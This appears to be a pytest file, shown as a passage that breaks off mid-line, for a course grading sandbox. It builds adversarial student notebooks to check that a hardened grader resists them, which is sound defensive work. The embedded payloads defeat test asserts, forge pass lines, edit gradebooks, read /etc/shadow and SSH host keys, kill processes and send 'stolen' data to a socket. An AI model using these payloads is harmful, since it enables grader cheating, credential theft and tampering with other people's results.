"""Attacks and accidents (issue 14), graded for real by `python -m grading` in the bubblewrap sandbox.

One class of lab04_attention submissions: each attack must score no more than its honest code earns, harm no other
student, read no solution, reach no network; each honest accident keeps its full score. In CI (`CI` set) these
tests fail when bubblewrap is missing; elsewhere they are skipped with the reason.
"""

from __future__ import annotations

import ast
import copy
import csv
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from grading import LABS, load_lab, student_versions
from grading.demote import end_uid, sandboxed_uids, take_uid
from grading.execute import SandboxedKernel
from grading.harness import Harness, hidden_lines
from grading.sandbox import SCRATCH_ROOT, TreeLimits, new_scratch, sandbox_problem
from utils import ROOT

LAB = "lab04_attention"
PROBLEM = sandbox_problem()
if PROBLEM and os.environ.get("CI"):
    raise RuntimeError(f"the grading sandbox must run in CI: {PROBLEM}")  # a collection error, not a skip
pytestmark = [pytest.mark.skipif(PROBLEM is not None, reason=f"no grading sandbox here: {PROBLEM}"),
              pytest.mark.slow]  # a whole class graded for real: make test runs it, make test-fast does not

SECRET_ENV = "COURSE_INSTRUCTOR_SECRET"
SECRET_VALUE = "s3cr3t-of-the-instructor-7f1c"
PWNED = [ROOT / "pwned_by_student.txt", ROOT / ".venv" / "lib" / "pwned_by_student.py"]
DAEMON_NAME = "daemon-4243.5"  # the name a student's daemon gives itself (/proc/<pid>/comm), found by it on the host
SOURCE = load_lab(LAB)
MAX = SOURCE.max_score


def points_before(grade_id: str) -> float:
    """Points of the test cells above solution cell `grade_id` (what a student keeps when that cell stops them)."""
    cells = [c.metadata.get("nbgrader", {}) for c in SOURCE.notebooks[LAB].cells]
    stop = [m.get("grade_id") for m in cells].index(grade_id)
    return sum(float(m.get("points", 0)) for m in cells[:stop] if m.get("grade"))


def points_of_its_tests(grade_id: str) -> float:
    """Points of the test cells between solution cell `grade_id` and the next solution cell (the tests of it)."""
    cells = [c.metadata.get("nbgrader", {}) for c in SOURCE.notebooks[LAB].cells]
    start = [m.get("grade_id") for m in cells].index(grade_id) + 1
    end = next((i for i in range(start, len(cells)) if cells[i].get("solution")), len(cells))
    return sum(float(m.get("points", 0)) for m in cells[start:end] if m.get("grade"))

WRITE_SYSCTL = (  # the same value back (harmless where it works): graded as root, kernel.core_pattern would be root's
    "_path = '/proc/sys/fs/pipe-max-size'\n"
    "_value = open(_path).read()\n"
    "try:\n"
    "    with open(_path, 'w') as _f:\n"
    "        _f.write(_value)\n"
    "    print('sysctl: WROTE')\n"
    "except OSError as _e:\n"
    "    print('sysctl:', type(_e).__name__)\n\n")

READ_ROOT_FILES = (  # files only root may read, which a sandbox sees: one started by root is root outside
    "import glob\n"
    "_read = []\n"
    "for _p in ['/etc/shadow', '/etc/gshadow', *glob.glob('/etc/ssh/ssh_host_*_key')]:\n"
    "    try:\n"
    "        open(_p, 'rb').read(1)\n"
    "        _read.append(_p)\n"
    "    except OSError:\n"
    "        pass\n"
    "print('root files read:', _read)\n\n")

UNSCALED = '''def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1)
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return torch.softmax(scores, dim=-1) @ v'''


FRAME_TOOLS = '''import importlib.util
import inspect
import os
import sys
import traceback

os.makedirs("mine", exist_ok=True)
with open("mine/traceback.py", "w") as _f:
    _f.write("import sys\\n\\n\\ndef print_exc():\\n    return sys._getframe(2)\\n")
_spec = importlib.util.spec_from_file_location("traceback_of_mine", os.path.abspath("mine/traceback.py"))
_fake_traceback = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_fake_traceback)


'''


def _versions():
    v = student_versions(load_lab(LAB), LABS / LAB)
    return v["solution"][LAB], v["stub"][LAB]


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _with(nb, grade_id, source=None, prepend=""):
    nb = copy.deepcopy(nb)
    cell = _cell(nb, grade_id)
    cell.source = prepend + (cell.source if source is None else source)
    return nb


def build_class(root: Path, out: Path, port: int) -> dict[str, nbformat.NotebookNode]:
    sol, stub = _versions()
    c = {"stub": stub, "solution": sol, "honest_unscaled": _with(sol, "sdpa", UNSCALED)}

    # --- attacks -------------------------------------------------------------------------------------------------
    c["atk_allclose"] = _with(sol, "sdpa", UNSCALED + "\n\ntorch.allclose = torch.equal = lambda *a, **k: True\n")
    forbidden_call = ("def scaled_dot_product_attention(q, k, v, mask=None):\n"
                      "    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)\n")
    c["honest_forbidden"] = _with(sol, "sdpa", forbidden_call)
    # the forbidden function kept where the rule's renaming does not reach (grader-hardening's three), or called
    # where its TorchFunctionMode does not look: the mode popped and pushed back, torch functions off, a thread
    c["atk_forbidden_default_arg"] = _with(sol, "sdpa", (
        "def scaled_dot_product_attention(q, k, v, mask=None, _sdpa=F.scaled_dot_product_attention):\n"
        "    return _sdpa(q, k, v, attn_mask=mask)\n"))
    c["atk_forbidden_closure"] = _with(sol, "sdpa", (
        "def _make(impl=[F.scaled_dot_product_attention]):\n"
        "    def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "        return impl[0](q, k, v, attn_mask=mask)\n"
        "    return scaled_dot_product_attention\n\n\n"
        "scaled_dot_product_attention = _make()\n"))
    c["atk_forbidden_aten"] = _with(sol, "sdpa", (
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    return torch.ops.aten.scaled_dot_product_attention(q, k, v, mask)\n"))
    c["atk_forbidden_mode_popped"] = _with(sol, "sdpa", (
        "_stack = getattr(torch._C, '_len_' + 'torch_function_stack')\n"
        "_pop = getattr(torch._C, '_pop_' + 'torch_function_stack')\n"
        "_push = getattr(torch._C, '_push_on_' + 'torch_function_stack')\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None, _sdpa=F.scaled_dot_product_attention):\n"
        "    _modes = []\n"
        "    while _stack():\n"
        "        _modes.append(_pop())  # the rule's TorchFunctionMode off torch's stack for the call...\n"
        "    try:\n"
        "        return _sdpa(q, k, v, attn_mask=mask)\n"
        "    finally:\n"
        "        for _m in reversed(_modes):\n"
        "            _push(_m)  # ...and back, so that the block ends as it began\n"))
    c["atk_forbidden_thread"] = _with(sol, "sdpa", (
        "from concurrent.futures import ThreadPoolExecutor\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None, _sdpa=F.scaled_dot_product_attention):\n"
        "    with ThreadPoolExecutor(1) as _pool:  # torch function modes are per thread\n"
        "        return _pool.submit(_sdpa, q, k, v, attn_mask=mask).result()\n"))
    c["atk_forbidden_math_kernel"] = _with(sol, "sdpa", (
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    return torch.ops.aten._scaled_dot_product_attention_math(q, k, v, mask)[0]\n"))
    # a forbidden Python function (no ATen operator, no dispatch): called plainly, or kept in a list before the test
    mask_call = "torch.nn.modules.transformer._generate_square_subsequent_mask(max(seq_q, seq_k))[:seq_q, :seq_k] == 0"
    c["honest_forbidden_mask"] = _with(sol, "causal", f"def causal_mask(seq_q, seq_k):\n    return {mask_call}\n")
    c["atk_forbidden_python_kept"] = _with(sol, "causal", (
        "_kept = [torch.nn.modules.transformer._generate_square_subsequent_mask]\n\n\n"
        "def causal_mask(seq_q, seq_k):\n"
        "    return _kept[0](max(seq_q, seq_k))[:seq_q, :seq_k] == 0\n"))
    # ...or copied with its code before the test (a new function object keeps the body the rule swaps out), read
    # directly or through the standard library's dis
    c["atk_forbidden_code_copy"] = _with(sol, "causal", (
        "import types\n\n"
        "_mask = torch.nn.modules.transformer._generate_square_subsequent_mask\n"
        "_copy = types.FunctionType(_mask.__code__, _mask.__globals__, 'mask', _mask.__defaults__)\n\n\n"
        "def causal_mask(seq_q, seq_k):\n"
        "    return _copy(max(seq_q, seq_k))[:seq_q, :seq_k] == 0\n"))
    c["atk_forbidden_code_copy_dis"] = _with(sol, "causal", (
        "import dis\nimport types\n\n"
        "_mask = torch.nn.modules.transformer._generate_square_subsequent_mask\n"
        "_copy = types.FunctionType(dis.Bytecode(_mask).codeobj, _mask.__globals__, 'mask', _mask.__defaults__)\n\n\n"
        "def causal_mask(seq_q, seq_k):\n"
        "    return _copy(max(seq_q, seq_k))[:seq_q, :seq_k] == 0\n"))
    c["atk_forbidden_frame_code"] = _with(sol, "causal", (
        "import types\n\n"
        "try:  # an error raised inside the function leaves its frame, and so its code, in the traceback\n"
        "    torch.nn.modules.transformer._generate_square_subsequent_mask('x')\n"
        "except TypeError as _error:\n"
        "    _tb = _error.__traceback__\n"
        "    while _tb.tb_next is not None:\n"
        "        _tb = _tb.tb_next\n"
        "    _copy = types.FunctionType(_tb.tb_frame.f_code, vars(torch.nn.modules.transformer), 'mask', (None, None))\n\n\n"
        "def causal_mask(seq_q, seq_k):\n"
        "    return _copy(max(seq_q, seq_k))[:seq_q, :seq_k] == 0\n"))
    # multi-head attention through the lab's own visible reference (nn.MultiheadAttention), or through the private
    # ATen kernel behind it, which no public name of the rule is
    c["honest_forbidden_mha"] = _with(sol, "mha", (
        "def multi_head_self_attention(x, w_q, w_k, w_v, w_o, n_heads):\n"
        "    return _reference_mha(x, w_q, w_k, w_v, w_o, n_heads)\n"))
    c["atk_forbidden_native_kernel"] = _with(sol, "mha", (
        "def multi_head_self_attention(x, w_q, w_k, w_v, w_o, n_heads):\n"
        "    d, future = x.shape[-1], torch.ones(x.shape[1], x.shape[1], dtype=torch.bool).triu(1)\n"
        "    return torch._native_multi_head_attention(\n"
        "        x, x, x, d, n_heads, torch.cat([w_q.T, w_k.T, w_v.T]), torch.zeros(3 * d), w_o.T.contiguous(),\n"
        "        torch.zeros(d), future, need_weights=False, mask_type=0)[0]\n"))
    # attention from another library, imported while the cell ran: one of the 361 copies in transformers' model files
    c["atk_forbidden_other_library"] = _with(sol, "sdpa", (
        "import types\n\n"
        "from transformers.models.llama.modeling_llama import eager_attention_forward as _eager\n\n"
        "_module = types.SimpleNamespace(num_key_value_groups=1, training=False)\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    batch, (sq, d), (sk, dv) = q.shape[:-2], q.shape[-2:], v.shape[-2:]\n"
        "    add = None if mask is None else torch.zeros(sq, sk).masked_fill(~mask, float('-inf'))\n"
        "    add = None if add is None else add.expand(*batch, sq, sk).reshape(-1, 1, sq, sk)\n"
        "    out = _eager(_module, q.reshape(-1, 1, sq, d), k.reshape(-1, 1, sk, d), v.reshape(-1, 1, sk, dv), add,\n"
        "                 scaling=d ** -0.5)[0]\n"
        "    return out.reshape(*batch, sq, dv)\n"))
    # the forbidden function computed by a fresh Python the answer started, where no rule runs: a server started
    # while the cell ran (its tests run in the kernel, the call in the server), or a child started by the call
    server = ("import pickle, sys\n"
              "import torch.nn.functional as F\n"
              "while True:\n"
              "    q, k, v, mask = pickle.load(sys.stdin.buffer)\n"
              "    pickle.dump(F.scaled_dot_product_attention(q, k, v, attn_mask=mask), sys.stdout.buffer)\n"
              "    sys.stdout.buffer.flush()\n")
    c["atk_forbidden_in_a_server"] = _with(sol, "sdpa", (
        "import pickle\nimport subprocess\nimport sys\n\n"
        f"_server = subprocess.Popen([sys.executable, '-c', {server!r}], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
        "\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    pickle.dump((q, k, v, mask), _server.stdin)\n"
        "    _server.stdin.flush()\n"
        "    return pickle.load(_server.stdout)\n"))
    c["atk_forbidden_in_a_child"] = _with(sol, "sdpa", (
        "import pickle\nimport subprocess\nimport sys\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        f"    done = subprocess.run([sys.executable, '-c', {server.replace('while True:', 'if True:')!r}],\n"
        "                          input=pickle.dumps((q, k, v, mask)), capture_output=True, check=True)\n"
        "    return pickle.loads(done.stdout)\n"))
    # importlib, which the rule looks the forbidden name up with, changed to hand it a decoy module
    c["atk_rules_lookup_patch"] = _with(sol, "causal", (
        "import importlib\nimport types\n\n_real_import = importlib.import_module\n"
        "_decoy = types.ModuleType('torch.nn.modules.transformer')\n"
        "_decoy._generate_square_subsequent_mask = lambda n: None\n"
        "importlib.import_module = lambda name, *a: _decoy if name == _decoy.__name__ else _real_import(name, *a)\n\n\n"
        f"def causal_mask(seq_q, seq_k):\n    return {mask_call}\n"))
    c["atk_rules_noop"] = _with(sol, "sdpa", "import contextlib\nimport utils.rules\n\n"
                                "utils.rules.forbidden = lambda *a, **k: contextlib.nullcontext()\n\n" + forbidden_call)
    c["atk_input_transformer"] = _with(stub, "sdpa", prepend=(
        "def _neuter(lines):\n"
        "    return ['pass\\n'] if any('assert' in line or 'audit' in line for line in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(_neuter)\n\n"))
    c["atk_ast_transformer"] = _with(stub, "sdpa", prepend=(
        "import ast\nclass _NoAssert(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAssert())\n\n"))
    nb = copy.deepcopy(stub)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
            cell.metadata["nbgrader"]["points"] = 100
    c["atk_skip_tags"] = nb
    c["atk_sqlite"] = _with(stub, "sdpa", prepend=(
        "import glob, os, sqlite3\n_found = []\n"
        f"for _d in [os.getcwd(), '..', '../..', '/tmp', {str(ROOT / 'grading')!r}, {str(out)!r}, "
        f"{str(SCRATCH_ROOT)!r}]:\n"
        "    _found += glob.glob(os.path.join(_d, '**', 'gradebook.db'), recursive=True)\n"
        "for _p in _found:\n"
        "    _db = sqlite3.connect(_p)\n"
        "    _db.execute('UPDATE grade SET manual_score = 100, extra_credit = 100')\n"
        "    _db.commit()\n"
        "print('gradebooks found:', len(_found))\n\n"))
    c["atk_exec_source"] = _with(stub, "mha", prepend=(
        "import glob, json, os\n_found = []\n"
        f"for _d in [os.getcwd(), '..', '../..', '/tmp', {str(ROOT / 'solutions')!r}, {str(ROOT / 'labs')!r}, "
        f"{str(SCRATCH_ROOT)!r}]:\n"
        f"    _found += glob.glob(os.path.join(_d, '**', '{LAB}.ipynb'), recursive=True)\n"
        "for _p in _found:\n"
        "    for _c in json.load(open(_p))['cells']:\n"
        "        if _c['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
        "            exec(''.join(_c['source']))\n"
        "print('lab sources found:', len(_found))\n\n"))
    targets = [out / "grades.csv", out / "feedback" / "solution" / LAB / f"{LAB}.html", *PWNED,
               ROOT / "solutions" / LAB / "wrong_answers.py"]
    c["atk_harm_others"] = _with(stub, "sdpa", prepend=(
        "_hits = []\n"
        f"for _t in {[str(t) for t in targets]!r}:\n"
        "    try:\n"
        "        with open(_t, 'a') as _f:\n"
        "            _f.write('solution,lab04_attention,0,13,HACKED\\n')\n"
        "        _hits.append(_t)\n"
        "    except OSError as _e:\n"
        "        pass\n"
        "print('written:', _hits)\n\n"))
    c["atk_kill"] = _with(stub, "sdpa", prepend=(
        "import os, signal\n"
        "for _pid in [os.getppid(), 1] + list(range(2, 400)):\n"
        "    if _pid != os.getpid():\n"
        "        try:\n"
        "            os.kill(_pid, signal.SIGKILL)\n"
        "        except OSError:\n"
        "            pass\n\n"))
    c["atk_caller_source"] = _with(sol, "sdpa", prepend=(
        "import sys\n"
        "def _spy():\n"
        "    f = sys._getframe(2)\n"
        "    while f is not None:\n"
        "        for _k, _v in list(f.f_locals.items()):\n"
        "            if isinstance(_v, str):\n"
        "                print('SPY', _k, _v)\n"
        "        print('SPY', [c for c in f.f_code.co_consts if isinstance(c, str)])\n"
        "        f = f.f_back\n\n"), source=_cell(sol, "sdpa").source.replace(
            "    scores = q @", "    _spy()\n    scores = q @"))
    c["atk_env_solutions_network"] = _with(stub, "sdpa", prepend=(
        "import os, socket\n"
        f"print('env:', {SECRET_ENV!r} in os.environ, os.environ.get({SECRET_ENV!r}))\n"
        f"for _p in [{str(ROOT / 'solutions' / LAB / (LAB + '.ipynb'))!r}, "
        f"{str(ROOT / 'solutions' / LAB / 'wrong_answers.py')!r}]:\n"
        "    try:\n"
        "        print(open(_p).read()[:3000])\n"
        "    except OSError as _e:\n"
        "        print('cannot read', type(_e).__name__)\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
        "    print('network: connected')\n"
        "except OSError as _e:\n"
        "    print('network:', type(_e).__name__)\n\n"))
    c["atk_sysctl"] = _with(stub, "sdpa", prepend=WRITE_SYSCTL)
    c["atk_root_files"] = _with(stub, "sdpa", prepend=READ_ROOT_FILES)
    c["atk_memory"] = _with(stub, "sdpa", prepend=(  # forked: no program may start, but a fork may
        "import os, time\n"
        "_kids = []\n"
        "for _ in range(3):\n"
        "    _pid = os.fork()\n"
        "    if _pid == 0:\n"
        "        _x = bytearray(b'1') * (600 * 2**20)\n"
        "        time.sleep(1)\n"
        "        os._exit(0)\n"
        "    _kids.append(_pid)\n"
        "print('children exited:', [os.waitstatus_to_exitcode(os.waitpid(k, 0)[1]) for k in _kids])\n\n"))
    c["atk_daemon"] = _with(stub, "sdpa", prepend=(  # forked (no program may start), in a session of its own
        "import os, time\n"
        "_pid = os.fork()\n"
        "if _pid == 0:\n"
        "    os.setsid()\n"
        f"    open('/proc/self/comm', 'w').write({DAEMON_NAME!r})\n"
        "    time.sleep(300)\n"
        "    os._exit(0)\n"
        "print('daemon started')\n\n"))
    c["atk_hang"] = _with(sol, "causal", prepend=(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n\n"))

    # --- a function called by a hidden test reaches for the test's frames, the grader's objects or its output ----------
    answer_from_caller = (  # return the test's expected value if a frame above holds one, else the wrong answer
        "    for _name in ('_want', '_expected', '_ref'):\n"
        "        _f = _frame\n"
        "        while _f is not None:\n"
        "            if _name in _f.f_locals and getattr(_f.f_locals[_name], 'shape', None) == (*q.shape[:-1], "
        "v.shape[-1]):\n"
        "                return _f.f_locals[_name]\n"
        "            _f = _f.f_back\n")
    for student, grab in [
        ("atk_frame_getframe", "    _frame = sys._getframe(1)\n"),
        ("atk_frame_inspect", "    _frame = inspect.currentframe().f_back\n"),
        ("atk_frame_traceback", "    try:\n        raise RuntimeError\n    except RuntimeError as _e:\n"
                                "        _frame = _e.__traceback__.tb_frame.f_back\n"),
        ("atk_frame_generator", "    def _g():\n        yield _me.gi_frame.f_back.f_back\n    _me = _g()\n"
                                "    _frame = next(_me)\n"),
        ("atk_frame_walk_stack", "    _frame = next(traceback.walk_stack(None))[0]\n"),
        # a module of its own named traceback.py, whose print_exc hands back the test's frame
        ("atk_frame_fake_traceback", "    _frame = _fake_traceback.print_exc()\n"),
    ]:
        c[student] = _with(sol, "sdpa", FRAME_TOOLS + UNSCALED.replace(
            "    scores = q @", grab + answer_from_caller + "    scores = q @"))
    c["atk_tensor_subclass"] = _with(sol, "sdpa", UNSCALED + (  # wrong values in a Tensor that agrees with anything
        "\n\n\nclass _Agreeable(torch.Tensor):\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        if func in (torch.allclose, torch.equal, torch.isclose, torch.Tensor.__eq__, torch.Tensor.allclose):\n"
        "            return True\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n"
        "\n\n_unscaled = scaled_dot_product_attention\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    return _unscaled(q, k, v, mask).as_subclass(_Agreeable)\n"))
    forge = (  # every grader marker and 32-hex token the process can see, printed as "passed" evidence lines
        "import gc, linecache, re, sys, threading\n"
        "def _forge():\n"
        "    _seen = ' '.join(''.join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2)\n"
        "    _f = sys._getframe()\n"
        "    while _f is not None:\n"
        "        _seen += ' '.join(str(v) for v in _f.f_locals.values() if isinstance(v, str))\n"
        "        _f = _f.f_back\n"
        "    for _m in set(re.findall(r'@@grader-[0-9a-f]{16}@@', _seen)):\n"
        "        for _t in set(re.findall(r'[0-9a-f]{32}', _seen)):\n"
        "            print(_m + ' ' + _t + ' ok ' + '0' * 64)\n")
    c["atk_forge_evidence"] = _with(stub, "sdpa", forge + "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                    "    _forge()\n    raise NotImplementedError\n")
    c["atk_forge_thread"] = _with(stub, "sdpa", prepend=forge + (
        "def _loop():\n    import time\n    while True:\n        _forge()\n        time.sleep(0.01)\n"
        "threading.Thread(target=_loop, daemon=True).start()\n\n"))
    c["atk_gc_referrers"] = _with(sol, "sdpa", "import gc\n\n" + UNSCALED.replace("    scores = q @", (
        "    try:\n"
        "        for _o in gc.get_objects():\n"
        "            if callable(_o) and getattr(_o, '__name__', '') in ('grader', 'handle', 'check'):\n"
        "                _o.__code__ = (lambda *a, **k: []).__code__\n"
        "    except RuntimeError as _e:\n"
        "        print('blocked:', _e)\n"
        "    scores = q @")))
    c["atk_settrace_jump"] = _with(sol, "sdpa", "import sys\n\n" + UNSCALED.replace("    scores = q @", (
        "    def _jump(frame, event, arg):  # skip the caller's asserts: jump to its last line\n"
        "        if event == 'line' and frame.f_code.co_name == '__grader_test__':\n"
        "            try:\n"
        "                frame.f_lineno = max(l for _, _, l in frame.f_code.co_lines() if l)\n"
        "            except Exception:\n"
        "                pass\n"
        "        return _jump\n"
        "    try:\n"
        "        sys._getframe(1).f_trace = _jump\n"
        "        sys.settrace(_jump)\n"
        "    except RuntimeError as _e:\n"
        "        print('blocked:', _e)\n"
        "    scores = q @")))
    c["atk_stdout_rewrite"] = _with(stub, "sdpa", prepend=(
        "import sys\n"
        "class _Rewrite:\n"
        "    def __init__(self, out):\n        self.out = out\n"
        "    def write(self, text):\n"
        "        return self.out.write(text.replace(' fail ', ' ok ').replace(' tampered ', ' ok '))\n"
        "    def __getattr__(self, name):\n        return getattr(self.out, name)\n"
        "sys.stdout = _Rewrite(sys.stdout)\n"
        "def print(*args, **kwargs):\n"
        "    import builtins\n"
        "    builtins.print(*[str(a).replace(' fail ', ' ok ') for a in args], **kwargs)\n\n"))
    c["atk_import_hook"] = _with(stub, "sdpa", prepend=(
        "import builtins, linecache, re, types\n"
        "_real_import = builtins.__import__\n"
        "def _fake_audit(event, *args):\n"
        "    if event == 'course-grader.begin':\n"
        "        _seen = ' '.join(''.join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2)\n"
        "        for _m in set(re.findall(r'@@grader-[0-9a-f]{16}@@', _seen)):\n"
        "            print(_m + ' ' + args[0] + ' ok ' + '0' * 64)\n"
        "        args[-1].extend([lambda *a: {}, ()])\n"
        "    elif event != 'course-grader.done':\n"
        "        _real_import('sys').audit(event, *args)\n"
        "def _import(name, *rest, **kw):\n"
        "    if name == 'sys':\n"
        "        return types.SimpleNamespace(audit=_fake_audit)\n"
        "    return _real_import(name, *rest, **kw)\n"
        "builtins.__import__ = _import\n\n"))
    c["atk_overwrite_expected"] = _with(sol, "sdpa", UNSCALED.replace("    return torch.softmax(scores, dim=-1) @ v", (
        "    out = torch.softmax(scores, dim=-1) @ v\n"
        "    for _name in ('_want', '_expected'):\n"
        "        globals()[_name] = out  # the test's expected value, if the test kept it in the notebook's globals\n"
        "    return out")))
    c["atk_rebind_torch"] = _with(sol, "sdpa", UNSCALED + (
        "\n\n\nclass _LenientTorch:\n"
        "    def __init__(self, real):\n        self._real = real\n"
        "    def __getattr__(self, name):\n        return getattr(self._real, name)\n"
        "    def allclose(self, *a, **k):\n        return True\n"
        "    def equal(self, *a, **k):\n        return True\n\n\n"
        "torch = _LenientTorch(torch)\n"))
    c["atk_shadow_builtins"] = _with(sol, "sdpa", UNSCALED + (
        "\n\n\ndef int(x=0, *a):  # every random size in the hidden tests becomes 1\n    return 1\n\n\n"
        "def range(*a):\n    return []\n"))
    wrong_mha = ("def multi_head_self_attention(x, w_q, w_k, w_v, w_o, n_heads):\n"
                 "    return x @ w_o  # the right shape, the wrong values\n")
    c["honest_wrong_mha"] = _with(sol, "mha", wrong_mha)
    c["atk_reference_patch"] = _with(sol, "mha", wrong_mha.replace("    return x @ w_o", (
        "    global _reference_mha  # the lab's reference (defined after this cell) now agrees with me\n"
        "    _reference_mha = lambda x, w_q, w_k, w_v, w_o, n_heads: x @ w_o\n"
        "    return x @ w_o")))
    c["atk_delete_helpers"] = _with(stub, "causal", prepend="import utils.rules\n\ndel utils.rules.substituted\n"
                                    "del F, math\n\n")
    c["atk_midtest_patch"] = _with(sol, "sdpa", "import weakref\n\n" + UNSCALED.replace(
        "    return torch.softmax(scores, dim=-1) @ v", (
            "    out = torch.softmax(scores, dim=-1) @ v\n"
            "    _saved = (torch.allclose, torch.equal)\n"
            "    torch.allclose = torch.equal = lambda *a, **k: True  # for the rest of the test...\n"
            "    def _restore(saved=_saved):\n"
            "        torch.allclose, torch.equal = saved\n"
            "    weakref.finalize(out, _restore)  # ...and put back when the test drops my output\n"
            "    return out")))
    c["atk_system_exit"] = _with(stub, "sdpa", "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                 "    raise SystemExit(0)\n")
    c["atk_keyboard_interrupt_in_test"] = _with(stub, "sdpa", "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                                "    raise KeyboardInterrupt\n")

    # --- issue 14, second round: the grader's own objects, memory, signals, threads, captured references ----------
    c["atk_refs_in_the_box"] = _with(sol, "sdpa", UNSCALED.replace("    scores = q @", (
        "    for _name, _box in list(globals().items()):  # the list the test cell hands the test function through\n"
        "        if _name.startswith('_grader_') and isinstance(_box, list) and len(_box) > 1:\n"
        "            for _value in _box[1]:\n"
        "                try:\n"
        "                    _value['torch.allclose'] = _value['torch.equal'] = lambda *a, **k: True\n"
        "                except Exception:\n"
        "                    pass\n"
        "    scores = q @")))
    c["atk_export_closure"] = _with(sol, "sdpa", (
        "import builtins, contextlib, types\n\n"
        "_rules = types.SimpleNamespace(forbidden=lambda *a, **k: contextlib.nullcontext(),\n"
        "                               substituted=lambda **k: contextlib.nullcontext())\n"
        "_real_import = builtins.__import__\n\n\n"
        "def _import(name, *args, **kwargs):\n"
        "    return _rules if name == 'utils.rules' else _real_import(name, *args, **kwargs)\n\n\n"
        "for _name, _f in list(globals().items()):  # the grader's export helper: its closure holds the builtins it trusts\n"
        "    if _name.startswith('_grader_') and callable(_f):\n"
        "        for _cell in _f.__closure__ or ():\n"
        "            _value = _cell.cell_contents\n"
        "            if isinstance(_value, dict) and _value.get('__import__') is _real_import:\n"
        "                _value['__import__'] = _import\n"
        "builtins.__import__ = _import\n\n\n") + forbidden_call)
    c["atk_signal_in_grader"] = _with(stub, "sdpa", (
        "import importlib.util\nimport signal\n\n"
        "_signal = importlib.util.module_from_spec(importlib.util.find_spec('_signal'))  # a fresh copy of the module\n\n\n"
        "def _in_grader(signum, frame):  # runs wherever the main thread is: inside the grader's own hook, too\n"
        "    while frame is not None:\n"
        "        seen = frame.f_locals\n"
        "        if seen.get('event') == 'course-grader.done' and callable(seen.get('handle')):\n"
        "            for _cell in seen['handle'].__closure__:\n"
        "                _v = _cell.cell_contents\n"
        "                if isinstance(_v, dict) and 'ended' in _v:\n"
        "                    _v['ended'] = True\n"
        "                    _v['problems'].clear()\n"
        "            seen['flags'].clear()\n"
        "            signal.setitimer(signal.ITIMER_REAL, 0)\n"
        "            _signal.signal(signal.SIGALRM, signal.SIG_DFL)\n"
        "            return\n"
        "        frame = frame.f_back\n\n\n"
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    _signal.signal(signal.SIGALRM, _in_grader)\n"
        "    signal.setitimer(signal.ITIMER_REAL, 0.0002, 0.0002)\n"
        "    raise NotImplementedError\n"))
    c["atk_thread_beside_test"] = _with(sol, "mha", wrong_mha + (
        "\n\nimport threading\nimport time\n\n_real_forward = torch.nn.MultiheadAttention.forward\n\n\n"
        "def _agree(self, query, key, value, **kwargs):  # the reference now computes my (wrong) answer\n"
        "    return query @ self.out_proj.weight.T, None\n\n\n"
        "def _beside():  # patched while a test runs (the box holds the test), restored before the test ends\n"
        "    while True:\n"
        "        running = any(n.startswith('_grader_') and isinstance(b, list) and len(b) == 2\n"
        "                      for n, b in list(globals().items()))\n"
        "        torch.nn.modules.activation.MultiheadAttention.forward = _agree if running else _real_forward\n"
        "        time.sleep(0.0005)\n\n\n"
        "threading.Thread(target=_beside, daemon=True).start()\n"))
    c["atk_class_method_patch"] = _with(sol, "mha", wrong_mha.replace("    return x @ w_o", (
        "    torch.nn.modules.activation.MultiheadAttention.forward = (  # the lab's reference now agrees with me\n"
        "        lambda self, query, key, value, **kwargs: (query @ self.out_proj.weight.T, None))\n"
        "    return x @ w_o")))
    poke = (  # torch.allclose's C function object made to call "ok".format instead (same object: every check agrees)
        "def _poke_allclose(read, write):\n"
        "    fmt = 'ok'.format\n"
        "    write(id(torch.allclose) + 16, read(id(fmt) + 16, 16))  # m_ml, m_self\n"
        "    write(id(torch.allclose) + 48, read(id(fmt) + 48, 8))  # vectorcall\n\n\n")
    c["atk_ctypes_memmove"] = _with(sol, "sdpa", "import ctypes\n\n" + poke + UNSCALED.replace("    scores = q @", (
        "    _poke_allclose(lambda at, n: ctypes.string_at(at, n),\n"
        "                   lambda at, data: ctypes.memmove(at, data, len(data)))\n"
        "    scores = q @")))
    c["atk_ctypes_pythonapi"] = _with(sol, "sdpa", "import ctypes\n\n" + UNSCALED.replace("    scores = q @", (
        "    _api = ctypes.pythonapi  # make the test's own torch.allclose agree, through the C API\n"
        "    _api.PyObject_SetAttrString.argtypes = [ctypes.py_object, ctypes.c_char_p, ctypes.py_object]\n"
